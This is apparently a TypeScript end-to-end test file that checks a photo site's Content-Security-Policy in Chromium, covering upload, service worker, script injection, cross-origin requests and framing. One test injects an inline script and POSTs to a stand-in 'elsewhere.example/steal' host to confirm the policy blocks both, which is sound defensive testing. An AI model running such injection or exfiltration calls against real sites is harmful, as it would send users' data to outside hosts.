/**
 * The site's Content-Security-Policy (deploy/security-headers.ts) in real Chromium: the app's
 * own pages, the admin's upload (its thumbnails are made in a blob: Web Worker, which the library
 * would silently replace with the main thread if the policy refused it) and the service worker
 * break none of its rules; an injected inline script, a request to another origin and framing
 * by another page are refused.
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  expectToast,
  fixturePath,
  workerStack,
  newContext,
  serviceWorkerReport,
  signInAsAdmin,
  sql,
} from '../e2e/browser';

interface Violation {
  directive: string;
  blocked: string;
}

/** Records every CSP violation the page's documents report. */
async function watchViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const seen: Array<{ directive: string; blocked: string }> = [];
    (window as unknown as { __violations: typeof seen }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
  return () =>
    page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations ?? []);
}

describe('the content security policy in Chromium', () => {
  it('lets the public pages and the admin upload run without a single violation', async () => {
    const context = await newContext('desktop');
    const page = await context.newPage();
    const violations = await watchViolations(page);
    await page.goto('/');
    await page.locator('footer').first().waitFor();
    expect(await violations()).toEqual([]);

    await signInAsAdmin(page);
    const [album] = await sql<{ id: string }>(
      "insert into public.albums (name) values ('CSP check') returning id",
    );
    await page.goto(`/admin/albums/${album!.id}`);
    await page.getByRole('button', { name: 'Add Photos' }).first().click();
    const dialog = page.getByRole('dialog', { name: 'Add Photos' });
    await dialog.getByLabel('Choose photos').setInputFiles([fixturePath('landscape.jpg')]);
    await expectToast(page, '1 photo uploaded successfully.');
    await page.getByTestId('photo-tile').first().locator('img').waitFor();
    // The service worker is in charge (its own scripts ran under the same policy).
    await page
      .waitForFunction(() => navigator.serviceWorker.controller !== null)
      .catch(async (error: unknown) => {
        throw new Error(`${String(error)}\nThe service worker: ${await serviceWorkerReport(page)}`);
      });
    expect(await violations()).toEqual([]);
    await context.close();
  });

  it('refuses an injected inline script and a request to another origin, allows https images', async () => {
    const context = await newContext('desktop');
    const page = await context.newPage();
    await context.route('https://images.example/**', (route) =>
      route.fulfill({ path: fixturePath('landscape.jpg'), contentType: 'image/jpeg' }),
    );
    const violations = await watchViolations(page);
    await page.goto('/');
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      const reached = await fetch('https://elsewhere.example/steal', {
        method: 'POST',
        body: 'x',
      }).then(
        () => true,
        () => false,
      );
      const image = new Image();
      image.src = 'https://images.example/hero.jpg';
      const loaded = await image.decode().then(
        () => true,
        () => false,
      );
      return {
        injected: (window as unknown as { __injected?: boolean }).__injected === true,
        reached,
        loaded,
      };
    });
    expect(outcome).toEqual({ injected: false, reached: false, loaded: true });
    expect((await violations()).map((violation) => violation.directive).sort()).toEqual([
      'connect-src',
      'script-src-elem',
    ]);
    await context.close();
  });

  it('cannot be framed by another page', async () => {
    const context = await newContext('desktop');
    const page = await context.newPage();
    await page.setContent(
      `<iframe src="${workerStack().url}/" style="width:400px;height:300px"></iframe>`,
    );
    // setContent returns after the page's load, which waits for the frame's (or its refusal).
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    const rendered = await frame
      ?.evaluate(() => document.getElementById('root') !== null)
      .catch(() => false);
    expect(rendered ?? false).toBe(false);
    await context.close();
  });
});
